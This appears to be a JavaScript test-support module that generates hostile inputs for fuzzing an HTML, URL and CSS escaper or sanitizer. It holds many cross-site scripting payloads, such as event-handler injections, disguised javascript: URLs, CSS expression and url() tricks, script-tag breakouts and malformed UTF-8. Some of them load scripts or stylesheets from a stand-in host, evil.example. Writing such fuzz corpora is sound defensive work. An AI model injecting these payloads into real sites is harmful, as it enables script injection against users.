// Values that want out: a list composed by rule, and endless random ones composed of its pieces. All are bytes: what
// clients send need not be UTF-8. Whatever of them is run as a script calls pwned, alert or the like.

const bytes = (text) => Buffer.from(text, 'utf8');
const range = (from, to) => Array.from({ length: to - from }, (_, i) => from + i);
const RUN = 'top.pwned(1)';
const IMAGE = `<img src=x onerror=${RUN}>`;

// ---- Pieces: what random values are made of, too ----

const quotes = ['"', "'", '`', '""', "''", '``', '"\'`', '" ', "' ", '\\"', "\\'", '\\`', '&quot;', '&#39;', '\u201c', '\uff02', '\uff07'];

const names = ['lt', 'gt', 'quot', 'apos', 'amp', 'colon', 'Tab', 'NewLine', 'sol', 'bsol', 'lpar', 'rpar', 'nbsp', 'fjlig', 'nvlt',
    'nvgt', 'bne', 'grave', 'DiacriticalGrave', 'excl', 'equals', 'semi', 'dollar', 'lbrace', 'rbrace', 'copy', 'notit', 'LT', 'GT',
    'AMP', 'QUOT', '#39', '#x27', '#X27', '#34', '#60', '#0060', '#x3c', '#x000000000000000003c', '#0', '#10', '#13', '#128', '#xD800',
    '#x110000', '#99999999999', '#x', '#', '#58', '#x6A', 'Zwsp', 'zwnj'];
const entities = names.flatMap((name) => [`&${name};`, `&${name}`, `&${name}x`, `&${name}=`]).concat(['&', '&&', '&;', '&amp;lt;']);

const elements = ['script', 'style', 'title', 'textarea', 'template', 'noscript', 'svg', 'math', 'select', 'option', 'table', 'td', 'tr',
    'iframe', 'xmp', 'plaintext', 'noembed', 'noframes', 'p', 'a', 'div', 'html', 'body', 'head', 'form', 'button', 'pre', 'listing',
    'object', 'mi', 'annotation-xml', 'foreignObject', 'desc', 'frameset', 'base', 'meta', 'br', 'image', 'isindex'];
const tags = elements.flatMap((name) => [`</${name}>`, `<${name}>`, `</${name.toUpperCase()} \n/>`, `</${name}`, `<${name}/`]);

const markup = ['<', '>', '<<', '</', '/>', '<!', '<?', '<%', '<a', '<\0a', '<\u0130mg', '\uff1cscript\uff1e', '&lt;script&gt;', IMAGE,
    `<script>${RUN}</script>`, `<SCRIPT SRC=//evil.example/x.js>`, `<svg/onload=${RUN}>`, `<body onload=${RUN}>`, `<a href=javascript:${RUN}>x`,
    `<iframe srcdoc="<script>${RUN}</script>">`, `<math><a xlink:href=javascript:${RUN}>x`, `<x onclick=${RUN}>`, '<base href=//evil.example/>',
    `<meta http-equiv=refresh content="0;javascript:${RUN}">`, `<object data="data:text/html,<script>${RUN}</script>">`,
    `<style>@import "//evil.example/x.css"</style>`, '<!DOCTYPE html>', '<?xml version="1.0"?>', `<img src=x:x onerror\x0b=${RUN}>`,
    `<svg><script>${RUN}</script>`, `<details open ontoggle=${RUN}>`, '<form id=x><button form=x formaction=javascript:alert(1)>'];

const comments = ['-', '--', '---', '->', '-->', '--->', '--!>', '--!', '-!>', '!>', '<!--', '<!-->', '<!--->', '<!---->', '<!--!>', '<!--<script>',
    '<!--<!--', '<!-<', ']]>', '<![CDATA[', '<![endif]-->', '<!--[if IE]>', `--><script>${RUN}</script>`, `--!>${IMAGE}`, '-->\n'];

const attributes = quotes.slice(0, 12).flatMap((quote) => [`${quote} onmouseover=${RUN} x=${quote}`, `${quote}>${IMAGE}`, `${quote}/autofocus/onfocus=${RUN}//`])
    .concat([`x onfocus=${RUN} autofocus`, `x\tonclick=${RUN}`, `x/onclick=${RUN}`, 'x>', '=', ' = ', `onclick=${RUN}`, ' checked', 'x\0y']);

const scripts = ['\\', '\\\\', '\\\\\\', '/', '//', '/*', '*/', '/**/', ';', '${', '${' + RUN + '}', '$', '$$', '{', '}', '(', ')', '[', ']', '\n', '\r', '\r\n',
    '\u2028', '\u2029', '\\n', '\\u0027', '\\x27', '\\u{27}', '\\u003c', '\\47', '\\u', '\\x', '\\u00', '</', '</s', '</scr', '<\\/script', 'null', 'true',
    'NaN', '-1', '1e5', '__proto__', 'constructor', '//\n', '#!', '-->', '\n-->', '<!--', '`', 'async', 'of', '=>']
    .concat(quotes.slice(0, 12).flatMap((q) => [`${q};${RUN}//`, `${q}-${RUN}-${q}`, `\\${q};${RUN}//`, `${q}+${RUN}+${q}`, `${q});${RUN}//`, `${q}\n${RUN}\n${q}`,
        `${q}\u2028${RUN}//`, `\\\\${q};${RUN}//`, `${q}}${RUN}{${q}`]))
    .concat([`*/${RUN}/*`, `\n${RUN}//`, `\u2028${RUN}//`, `</script><script>${RUN}</script>`, `</SCRIPT\f><svg onload=${RUN}>`, `<!--<script>`, `[]/${RUN}/1`,
        `;${RUN}`, `)-${RUN}-(`, `]+${RUN}+[`, `\\';${RUN};//`]);

const styles = ['}', '{', ';', ':', '@', '\\', '\\\n', '\\22', '\\27 ', '\\3c', '\\a', '/*', '*/', '*', '--', '--x', '<!--', '-->', 'url(', 'url("', ')', '(', '!important',
    `expression(${RUN})`, `url(javascript:${RUN})`, `url("javascript:${RUN}")`, `u\\72l(//evil.example)`, 'uRL(//evil.example/x)', '@import "//evil.example/x.css";',
    '}*{background:url(//evil.example)}', ';color:red', 'red;background:url(//evil.example)', '-moz-binding:url(//evil.example#x)', `behavior:url(x.htc)`,
    'var(--x)', 'attr(data-x)', 'image-set("//evil.example" 1x)', `</style><script>${RUN}</script>`, 'red', '#fff', '#f', '12px', '1.5em', '-3px', '50%', 'a, b',
    'Arial Black', 'rgb(1,2,3)', 'calc(1px)', '\u00e9', '"x"', "'x'", '"\n}*{color:red}', 'x\\', '\f', 'U+26', '!', '#', ',', ', ,', 'inherit'];

const schemes = ['javascript', 'vbscript', 'data', 'livescript', 'mocha', 'blob', 'filesystem', 'view-source', 'jar', 'about', 'file', 'intent', 'feed', 'x-javascript'];
const code = { data: `text/html,<script>${RUN}</script>` };
const disguises = [
    (s, c) => `${s}:${c}`,
    (s, c) => `${s.toUpperCase()}:${c}`,
    (s, c) => `${[...s].map((x, i) => (i % 2 ? x.toUpperCase() : x)).join('')}:${c}`,
    (s, c) => `${s.slice(0, 4)}\t${s.slice(4)}:${c}`,
    (s, c) => `${s.slice(0, 4)}\n${s.slice(4)}:${c}`,
    (s, c) => `${s.slice(0, 4)}\r\n${s.slice(4)}:${c}`,
    (s, c) => `${s.slice(0, 4)}\0${s.slice(4)}:${c}`,
    (s, c) => `${[...s].join('\t')}\t:${c}`,
    (s, c) => `${s}\n:${c}`,
    (s, c) => `${s} :${c}`,
    (s, c) => `${s}&colon;${c}`,
    (s, c) => `${s}&#58;${c}`,
    (s, c) => `${s}&#x3a${c}`,
    (s, c) => `&#${s.charCodeAt(0)};${s.slice(1)}:${c}`,
    (s, c) => `${s.slice(0, 4)}&Tab;${s.slice(4)}:${c}`,
    (s, c) => `${s}%3A${c}`,
    (s, c) => `%${s.charCodeAt(0).toString(16)}${s.slice(1)}:${c}`,
    (s, c) => `${s}\uff1a${c}`,
    (s, c) => `\u00a0${s}:${c}`,
    (s, c) => `\ufeff${s}:${c}`,
    (s, c) => `\u200b${s}:${c}`,
    (s, c) => `\u2028${s}:${c}`,
    (s, c) => ` \t\n${s}:${c}`,
    (s, c) => `"${s}:${c}`,
    (s, c) => `/${s}:${c}`,
    (s, c) => `//${s}:${c}`,
    (s, c) => `?${s}:${c}`,
    (s, c) => `:${s}:${c}`,
    (s, c) => `http:${s}:${c}`,
    (s, c) => `http\t://x/,${s}:${c}`,
    (s, c) => `x, ${s}:${c}`,
    (s, c) => `x 1x,${s}:${c} 2x`,
    (s, c) => `${s}://%0a${c}`,
    (s, c) => `${s}:\\u0061${c}`,
    (s, c) => `${s}`,
    (s, c) => `:${c}`,
    (s, c) => `script:${c}`,
];
const urls = schemes.flatMap((scheme) => disguises.map((disguise) => disguise(scheme, code[scheme] ?? RUN)))
    .concat(range(0, 0x21).map((control) => `${String.fromCharCode(control)}javascript:${RUN}`))
    .concat(range(0, 11).map((at) => `${'javascript'.slice(0, at)}\t\n${'javascript'.slice(at)}:${RUN}`))
    .concat(['/', '//', '///', '/\\', '\\\\evil.example', '//evil.example', '/evil.example', '\\/evil.example', '///evil.example', '.', '..', '../..', '/../..', './', '%2e%2e/', '%2f',
        '%5c', '%00', '%', '%%', '%zz', '%c0%ae', '?', '#', '?a=b', '&a=b', '&amp;a=b', '#frag', ';', '=', '+', '@', '@evil.example', 'user@evil.example', '.evil.example', ':80', ':',
        'http:', 'https:', 'HTTP://EXAMPLE.COM/A', 'https://example.com/?q=a b&c=d#e', 'https:\\\\evil.example', 'https:evil', 'mailto:a@b.example', 'tel:+49-30',
        'sms:1', 'ftp://x/', 'httpx://x', 'http\n://x', 'ht\ttps://x/', 'https://[::1]/', 'https://[', 'http://a:b@c:99999/', '/a b', 'a/b', '\u00e4/\u{1f600}', 'https://b\u00fccher.example/']);

const sources = ['a.png', 'a.png 1x', 'a.png 1x, b.png 2x', 'a,b.png', ',', ',,', ' , ', 'a.png,', 'a.png 1x,javascript:x 2x', 'a.png (, b.png 1x)', 'a.png 100w,data:image/png;base64,AAAA 2x',
    ',javascript:alert(1)', 'a.png\t2x', 'a.png 1x\n,\nb.png', '1x', '-1x', 'a.png 1x 2x'];

const unicode = ['\u00e9', '\u4f60\u597d', '\u{1f468}\u200d\u{1f469}', '\u202e', '\u2066', '\u200b', '\ufeff', '\ufffd', '\ufffe', '\uffff', '\u{10ffff}', '\u0085', '\u00a0', '\u00ad', '\u034f',
    '\u1680', '\u3000', '\u212a', '\u017f', '\u0131', 'Z\u0351\u036b', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\x1b(J', '\x1b$B', '\x1b(B', '~{', '\u00c3\u00a9'];

// What is no UTF-8: bytes that begin nothing, sequences cut short, overlong ones, surrogates, too large ones.
const broken = ['80', 'bf', 'c0', 'c1', 'c2', 'e0', 'e2', 'e280', 'ed', 'f0', 'f09f', 'f09f98', 'f4', 'f5', 'f8', 'fc', 'fe', 'ff', 'c080', 'c0ae', 'c0bc', 'c1bf', 'e0809c', 'e080bc', 'e09f80', 'eda080', 'edbfbf',
    'eda080edb080', 'f0808080', 'f08080bc', 'f08f8080', 'f4908080', 'f8888080', 'fc8480808080', 'e2802280', 'c222', 'c327', 'e23c73', 'f09f983c', 'c33e', 'fffe3c00', 'feff003c', '8f5c', '835c27', 'bf27', 'b1', 'efbfbe']
    .map((hex) => Buffer.from(hex, 'hex'));

const textual = [quotes, entities, tags, markup, comments, attributes, scripts, styles, urls, sources, unicode];
const controls = range(0, 0x80).map((byte) => Buffer.from([byte]));
export const pieces = [...new Set(textual.flat())].map(bytes).concat(controls, broken);

// ---- The list ----

function runs() {
    const out = [];
    for (const piece of ['"', '&', '<', '>', "'", '\0', '\r', '\\', '`', '\u2028', '%', '-', ' ', 'a', '\u00e9', '/', ':', ',', '${'])
        for (const count of [2, 15, 16, 17, 31, 33, 127, 128, 129, 256, 683, 784, 1365, 4095, 4097]) out.push(bytes(piece.repeat(count)));
    for (let lead = 0; lead < 40; lead++)
        out.push(bytes('a'.repeat(lead) + '"'), bytes('a'.repeat(lead) + '<' + 'b'.repeat(lead)), bytes('a'.repeat(100 + lead) + "'>" + 'b'.repeat(lead)));
    return out;
}

function within() {
    const out = [];
    for (const piece of pieces.slice()) {
        out.push(Buffer.concat([bytes('a'), piece, bytes('b')]));
        out.push(Buffer.concat([piece, bytes(`${IMAGE}//`)]));
    }
    return out;
}

// Without doubles, in a fixed order; the empty value is the first.
export function hostile() {
    const high = range(0x80, 0x100).flatMap((byte) => [Buffer.from([byte]), Buffer.from([0x61, byte, 0x22])]);
    const doubled = range(0, 0x80).map((byte) => Buffer.from([byte, byte]));
    const all = [bytes(''), ...pieces, ...high, ...doubled, ...runs(), ...within()];
    return [...new Map(all.map((value) => [value.toString('latin1'), value])).values()];
}

// Endless values of one seed: one to six pieces, now and then with bytes of any kind between.
export function* random(seed) {
    let a = seed >>> 0, b = 0x9e3779b9, c = 0x85ebca6b, d = 1;
    const next = () => { // sfc32
        const t = (a + b + d) | 0;
        d = (d + 1) | 0;
        a = b ^ (b >>> 9);
        b = (c + (c << 3)) | 0;
        c = (((c << 21) | (c >>> 11)) + t) | 0;
        return t >>> 0;
    };
    for (let i = 0; i < 16; i++) next();
    for (;;) {
        const parts = [];
        for (let count = 1 + (next() % 6); count > 0; count--) {
            parts.push(pieces[next() % pieces.length]);
            if (next() % 8 === 0) parts.push(Buffer.from(range(0, 1 + (next() % 4)).map(() => next() & 255)));
        }
        yield Buffer.concat(parts);
    }
}
